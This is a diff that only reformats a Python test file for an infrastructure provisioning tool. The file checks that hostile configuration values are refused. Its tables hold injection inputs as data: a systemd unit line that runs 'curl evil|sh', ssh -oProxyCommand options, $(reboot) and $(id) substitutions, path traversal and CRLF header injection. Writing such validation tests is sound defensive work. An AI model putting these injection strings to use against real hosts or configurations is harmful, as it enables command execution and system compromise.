@@ -17,8 +17,7 @@ from infrakit.plan import build_plan
 from tests.conftest import StackFactory, _merge, load_values
 
 ETH = dict(read_stack_file("eth-hoodi-validator").values)
-EXISTING = {"target": "existing", "serverType": None, "image": None, "location": None, "backups": None,
-            "labels": None}
+EXISTING = {"target": "existing", "serverType": None, "image": None, "location": None, "backups": None, "labels": None}
 
 
 def at(path: str, value: Any) -> dict[str, Any]:
@@ -27,8 +26,12 @@ def at(path: str, value: Any) -> dict[str, Any]:
     return {head: at(".".join(rest), value) if rest else value}
 
 
-WEB = {"enabled": True, "domain": "rpc.example.org", "acmeEmail": "ops@example.org",
-       "rpcAllowCidrs": ["198.51.100.0/24"]}
+WEB = {
+    "enabled": True,
+    "domain": "rpc.example.org",
+    "acmeEmail": "ops@example.org",
+    "rpcAllowCidrs": ["198.51.100.0/24"],
+}
 NEWLINE_UNIT = "x\n[Service]\nExecStartPre=/bin/sh -c 'curl evil|sh'"
 
 # key path -> (values that must be refused, how to wrap each into stack overrides)
@@ -36,49 +39,95 @@ HOSTILE: dict[str, list[Any]] = {
     # written into node.env / unit names / sudoers / home paths
     "access.adminUser": ["ops\nroot", "-oProxyCommand=x", "root", "../etc", "ops user"],
     # ufw rules and sshd: the world, however it is spelled, needs the explicit opt-in
-    "access.adminCidrs": [["0.0.0.0/1", "128.0.0.0/1"], ["::/1", "8000::/1"], ["::ffff:0:0/96"],
-                          ["0.0.0.0/0"], ["10.0.0.0/8\n0.0.0.0/0"], ["::/0"]],
+    "access.adminCidrs": [
+        ["0.0.0.0/1", "128.0.0.0/1"],
+        ["::/1", "8000::/1"],
+        ["::ffff:0:0/96"],
+        ["0.0.0.0/0"],
+        ["10.0.0.0/8\n0.0.0.0/0"],
+        ["::/0"],
+    ],
     # the SSH target: a host name that is an address typo or an ssh option
-    "host.address": ["300.1.2.3", "1.2.3", "-oProxyCommand=touch /tmp/x", "host name", "host\nx",
-                     "a..b", "-leading.example.org"],
+    "host.address": [
+        "300.1.2.3",
+        "1.2.3",
+        "-oProxyCommand=touch /tmp/x",
+        "host name",
+        "host\nx",
+        "a..b",
+        "-leading.example.org",
+    ],
     "host.user": ["-oProxyCommand=x", "ops\nroot", "ops;id"],
     # sysctl.d lines: a value must not start another line or a comment
-    "hardening.sysctl.overrides": [{"net.ipv4.ip_forward": "1\nkernel.modules_disabled = 1"},
-                                   {"net.ipv4.ip_forward": "$(reboot)"}, {"net.ipv4.ip_forward": "1 # x"},
-                                   {"net.ipv4.ip_forward": "-x"}, {"net.ipv4.ip_forward": "a=b"}],
+    "hardening.sysctl.overrides": [
+        {"net.ipv4.ip_forward": "1\nkernel.modules_disabled = 1"},
+        {"net.ipv4.ip_forward": "$(reboot)"},
+        {"net.ipv4.ip_forward": "1 # x"},
+        {"net.ipv4.ip_forward": "-x"},
+        {"net.ipv4.ip_forward": "a=b"},
+    ],
     # sshd: weak or unknown algorithms are refused, not passed through
-    "hardening.ssh.kexAlgorithms": [["diffie-hellman-group1-sha1"], ["ecdh-sha2-nistp256"], ["made-up@example.org"],
-                                    ["curve25519-sha256,diffie-hellman-group1-sha1"], []],
+    "hardening.ssh.kexAlgorithms": [
+        ["diffie-hellman-group1-sha1"],
+        ["ecdh-sha2-nistp256"],
+        ["made-up@example.org"],
+        ["curve25519-sha256,diffie-hellman-group1-sha1"],
+        [],
+    ],
     "hardening.ssh.ciphers": [["3des-cbc"], ["aes128-cbc"], ["arcfour"], ["none"]],
     "hardening.ssh.macs": [["hmac-md5"], ["hmac-sha1"], ["umac-64@openssh.com"], ["hmac-sha2-256"]],
     # fail2ban ignoreip: an ignore list that covers everyone bans no one
     "hardening.fail2ban.ignoreCidrs": [["0.0.0.0/0"], ["0.0.0.0/1", "128.0.0.0/1"], ["::/0"]],
     # chrony sources lines
-    "hardening.timeSync.servers": [["300.1.2.3"], ["-x"], ["pool.ntp.org\nserver evil.example"],
-                                   ["ntp.example.org iburst"]],
+    "hardening.timeSync.servers": [
+        ["300.1.2.3"],
+        ["-x"],
+        ["pool.ntp.org\nserver evil.example"],
+        ["ntp.example.org iburst"],
+    ],
     # apt-get's command line
-    "hardening.extraPackages": [["-oAPT::Get::AllowUnauthenticated=true"], ["vim;id"], ["a b"], ["x"],
-                                ["Vim"], ["../x.deb"]],
+    "hardening.extraPackages": [
+        ["-oAPT::Get::AllowUnauthenticated=true"],
+        ["vim;id"],
+        ["a b"],
+        ["x"],
+        ["Vim"],
+        ["../x.deb"],
+    ],
     # df / status page paths: confined, normalised
-    "monitoring.dataDirs": [["/var/../etc"], ["var/lib"], ["/"], ["/var/lib/x\n/etc"], ["/var//lib"],
-                            ["/var/lib/."], ["/var/lib/"]],
+    "monitoring.dataDirs": [
+        ["/var/../etc"],
+        ["var/lib"],
+        ["/"],
+        ["/var/lib/x\n/etc"],
+        ["/var//lib"],
+        ["/var/lib/."],
+        ["/var/lib/"],
+    ],
     # checks.json -> systemctl / socket / curl
-    "monitoring.checks": [[{"name": "u", "kind": "systemd", "target": NEWLINE_UNIT}],
-                          [{"name": "u", "kind": "systemd", "target": "--now"}],
-                          [{"name": "t", "kind": "tcp", "target": "300.1.2.3:80"}],
-                          [{"name": "t", "kind": "tcp", "target": "-x:80"}],
-                          [{"name": "t", "kind": "tcp", "target": "127.0.0.1:99999"}],
-                          [{"name": "h", "kind": "http", "target": "http://127.0.0.1/\nx"}],
-                          [{"name": "h", "kind": "http", "target": "http://127.0.0.1/'$(id)'"}],
-                          [{"name": "h", "kind": "http", "target": "http://127.0.0.1/",
-                            "headers": {"X-A": "b\r\nHost: evil"}}],
-                          [{"name": "h", "kind": "http", "target": "http://127.0.0.1/",
-                            "headers": {"X A": "b"}}]],
+    "monitoring.checks": [
+        [{"name": "u", "kind": "systemd", "target": NEWLINE_UNIT}],
+        [{"name": "u", "kind": "systemd", "target": "--now"}],
+        [{"name": "t", "kind": "tcp", "target": "300.1.2.3:80"}],
+        [{"name": "t", "kind": "tcp", "target": "-x:80"}],
+        [{"name": "t", "kind": "tcp", "target": "127.0.0.1:99999"}],
+        [{"name": "h", "kind": "http", "target": "http://127.0.0.1/\nx"}],
+        [{"name": "h", "kind": "http", "target": "http://127.0.0.1/'$(id)'"}],
+        [{"name": "h", "kind": "http", "target": "http://127.0.0.1/", "headers": {"X-A": "b\r\nHost: evil"}}],
+        [{"name": "h", "kind": "http", "target": "http://127.0.0.1/", "headers": {"X A": "b"}}],
+    ],
     # nginx / caddy / certbot: caddy expands {$VAR} and {env.VAR}, nginx ends a directive at ';'
-    "web.acmeDirectory": ["https://{$ACME_HOST}/directory", "https://ca.example.org/dir;return 200",
-                          "https://ca.example.org/ dir", "https://user:pw@ca.example.org/dir",
-                          "https://ca.example.org/dir?x=1", "http://ca.example.org/dir", "https://300.1.2.3/dir",
-                          "https://ca.example.org/{env.HOME}", "https://ca.example.org/\"x"],
+    "web.acmeDirectory": [
+        "https://{$ACME_HOST}/directory",
+        "https://ca.example.org/dir;return 200",
+        "https://ca.example.org/ dir",
+        "https://user:pw@ca.example.org/dir",
+        "https://ca.example.org/dir?x=1",
+        "http://ca.example.org/dir",
+        "https://300.1.2.3/dir",
+        "https://ca.example.org/{env.HOME}",
+        'https://ca.example.org/"x',
+    ],
     "web.domain": ["{$DOMAIN}", "rpc.example.org;", "rpc.example.org\nx", "rpc.example.org {", "*.example.org"],
     "web.acmeEmail": ["{$EMAIL}@example.org", "ops@example.org\nx", "ops@{$X}.org"],
     "web.rpcBasicAuthUser": ["-x", "a:b", "a\nb", "{$USER}"],
@@ -87,18 +136,27 @@ HOSTILE: dict[str, list[Any]] = {
 }
 # Keys under chainSettings land on client command lines (the adapter renders the flags).
 HOSTILE_ETH: dict[str, list[Any]] = {
-    "chainSettings.validator.graffiti": ["--suggested-fee-recipient=0x0000000000000000000000000000000000000000",
-                                         "-x", "a\nb", "- x"],
-    "chainSettings.consensus.checkpointSyncUrl": ["https://{$X}/", "-https://a.org", "https://a.org/ --x",
-                                                  "https://a.org/?q=--x"],
+    "chainSettings.validator.graffiti": [
+        "--suggested-fee-recipient=0x0000000000000000000000000000000000000000",
+        "-x",
+        "a\nb",
+        "- x",
+    ],
+    "chainSettings.consensus.checkpointSyncUrl": [
+        "https://{$X}/",
+        "-https://a.org",
+        "https://a.org/ --x",
+        "https://a.org/?q=--x",
+    ],
     "chainSettings.artifacts.lockFile": ["../../etc/x.toml", "/tmp/../etc/x.toml", "x.toml\n"],
     "chainSettings.artifacts.baseUrl": ["https://u:p@mirror.example/", "https://mirror.example/{$X}"],
 }
 
 
 def _cases(table: dict[str, list[Any]], base: str) -> list[Any]:
-    return [pytest.param(base, key, value, id=f"{key}={value!r}"[:90]) for key, values in table.items()
-            for value in values]
+    return [
+        pytest.param(base, key, value, id=f"{key}={value!r}"[:90]) for key, values in table.items() for value in values
+    ]
 
 
 def _overrides(key: str, value: Any) -> dict[str, Any]:
@@ -125,22 +183,37 @@ def test_every_table_key_is_a_real_key(stack_values: StackFactory) -> None:
     """A row for a misspelt key would pass as 'unknown key': the table must name real keys.
     Each key loads with a harmless value (the test of the table itself)."""
     harmless: dict[str, Any] = {
-        "access.adminUser": "ops2", "access.adminCidrs": ["192.0.2.0/24"], "host.address": "node-1.example.org",
-        "host.user": "ops", "hardening.sysctl.overrides": {"net.ipv4.tcp_congestion_control": "bbr",
-                                                           "net.ipv4.tcp_rmem": "4096 87380 6291456",
-                                                           "net.ipv4.ip_forward": 0},
+        "access.adminUser": "ops2",
+        "access.adminCidrs": ["192.0.2.0/24"],
+        "host.address": "node-1.example.org",
+        "host.user": "ops",
+        "hardening.sysctl.overrides": {
+            "net.ipv4.tcp_congestion_control": "bbr",
+            "net.ipv4.tcp_rmem": "4096 87380 6291456",
+            "net.ipv4.ip_forward": 0,
+        },
         "hardening.ssh.kexAlgorithms": ["sntrup761x25519-sha512@openssh.com"],
         "hardening.ssh.ciphers": ["chacha20-poly1305@openssh.com"],
         "hardening.ssh.macs": ["hmac-sha2-512-etm@openssh.com"],
         "hardening.fail2ban.ignoreCidrs": ["192.0.2.0/24"],
         "hardening.timeSync.servers": ["ntp1.hetzner.de", "192.0.2.1"],
-        "hardening.extraPackages": ["vim", "g++", "libc6-dev"], "monitoring.dataDirs": ["/var/lib/node"],
-        "monitoring.checks": [{"name": "h", "kind": "http", "target": "http://127.0.0.1:8545/?a=b&c=d",
-                               "headers": {"Content-Type": "application/json"}},
-                              {"name": "t", "kind": "tcp", "target": "[::1]:30303"},
-                              {"name": "u", "kind": "systemd", "target": "systemd-journald.service"}],
-        "web.acmeDirectory": "https://localhost:14000/dir", "web.domain": "rpc.example.org",
-        "web.acmeEmail": "ops+acme@example.org", "web.rpcBasicAuthUser": "reader", "web.rpcAllowCidrs": ["0.0.0.0/1"],
+        "hardening.extraPackages": ["vim", "g++", "libc6-dev"],
+        "monitoring.dataDirs": ["/var/lib/node"],
+        "monitoring.checks": [
+            {
+                "name": "h",
+                "kind": "http",
+                "target": "http://127.0.0.1:8545/?a=b&c=d",
+                "headers": {"Content-Type": "application/json"},
+            },
+            {"name": "t", "kind": "tcp", "target": "[::1]:30303"},
+            {"name": "u", "kind": "systemd", "target": "systemd-journald.service"},
+        ],
+        "web.acmeDirectory": "https://localhost:14000/dir",
+        "web.domain": "rpc.example.org",
+        "web.acmeEmail": "ops+acme@example.org",
+        "web.rpcBasicAuthUser": "reader",
+        "web.rpcAllowCidrs": ["0.0.0.0/1"],
         "web.rpcPath": "/rpc/v1",
     }
     assert set(harmless) == set(HOSTILE), "give each HOSTILE key a harmless value here"
@@ -148,17 +221,20 @@ def test_every_table_key_is_a_real_key(stack_values: StackFactory) -> None:
         stack = load_values(stack_values(**_overrides(key, value)))
         if key != "web.rpcBasicAuthUser":  # that one also needs its secret to plan
             build_plan(stack)
-    eth_harmless = {"chainSettings.validator.graffiti": "my node",
-                    "chainSettings.consensus.checkpointSyncUrl": "https://checkpoint.example.org/",
-                    "chainSettings.artifacts.lockFile": "adapters/ethereum/artifacts.lock.toml",
-                    "chainSettings.artifacts.baseUrl": "https://mirror.example/artifacts"}
+    eth_harmless = {
+        "chainSettings.validator.graffiti": "my node",
+        "chainSettings.consensus.checkpointSyncUrl": "https://checkpoint.example.org/",
+        "chainSettings.artifacts.lockFile": "adapters/ethereum/artifacts.lock.toml",
+        "chainSettings.artifacts.baseUrl": "https://mirror.example/artifacts",
+    }
     assert set(eth_harmless) == set(HOSTILE_ETH)
     for key, value in eth_harmless.items():
         load_values(_merge(ETH, _overrides(key, value)))
 
 
-@pytest.mark.parametrize("name", ["x\n[Unit]\nBefore=ssh.service", "-x", "a b", "../../etc", "a=b", "", ".hidden",
-                                  "x" * 101])
+@pytest.mark.parametrize(
+    "name", ["x\n[Unit]\nBefore=ssh.service", "-x", "a b", "../../etc", "a=b", "", ".hidden", "x" * 101]
+)
 def test_hostile_stack_name_is_refused(stack_values: StackFactory, name: str) -> None:
     """The stack name is written into node.env and unit files: a newline once injected a
     [Unit] section into a unit on a real host."""
@@ -174,8 +250,9 @@ def test_admin_cidrs_are_in_fail2ban_ignoreip_by_default(stack_values: StackFact
     SSH and `apply` were refused until it expired."""
     config = load_values(stack_values()).config
     assert config.fail2ban_ignore == ["127.0.0.0/8", "::1/128", "198.51.100.0/24", "2001:db8:42::/48"]
-    jail = next(f for p in build_plan(load_values(stack_values())).steps for f in p.step.files
-                if f.name == "jail.local")
+    jail = next(
+        f for p in build_plan(load_values(stack_values())).steps for f in p.step.files if f.name == "jail.local"
+    )
     assert "ignoreip = 127.0.0.0/8 ::1/128 198.51.100.0/24 2001:db8:42::/48\n" in jail.content
     opted_out = load_values(stack_values(hardening={"fail2ban": {"ignoreAdminCidrs": False}})).config
     assert opted_out.fail2ban_ignore == ["127.0.0.0/8", "::1/128"]
@@ -183,15 +260,17 @@ def test_admin_cidrs_are_in_fail2ban_ignoreip_by_default(stack_values: StackFact
 
 def test_world_open_ssh_is_not_exempt_from_fail2ban(stack_values: StackFactory) -> None:
     """With SSH open to the world (opted in), ignoring the admin CIDRs would exempt everyone."""
-    config = load_values(stack_values(access={"adminCidrs": ["0.0.0.0/1", "128.0.0.0/1"],
-                                              "allowSshFromAnywhere": True})).config
+    config = load_values(
+        stack_values(access={"adminCidrs": ["0.0.0.0/1", "128.0.0.0/1"], "allowSshFromAnywhere": True})
+    ).config
     assert config.fail2ban_ignore == ["127.0.0.0/8", "::1/128"]
 
 
 def test_admin_and_ignore_cidrs_together_covering_everyone_are_refused(stack_values: StackFactory) -> None:
     with pytest.raises(ConfigError, match="fail2ban would ban no one"):
-        load_values(stack_values(access={"adminCidrs": ["0.0.0.0/1"]},
-                                 hardening={"fail2ban": {"ignoreCidrs": ["128.0.0.0/1"]}}))
+        load_values(
+            stack_values(access={"adminCidrs": ["0.0.0.0/1"]}, hardening={"fail2ban": {"ignoreCidrs": ["128.0.0.0/1"]}})
+        )
 
 
 def test_ssh_kex_pq_first_and_the_classical_fallback_is_a_key(stack_values: StackFactory) -> None:
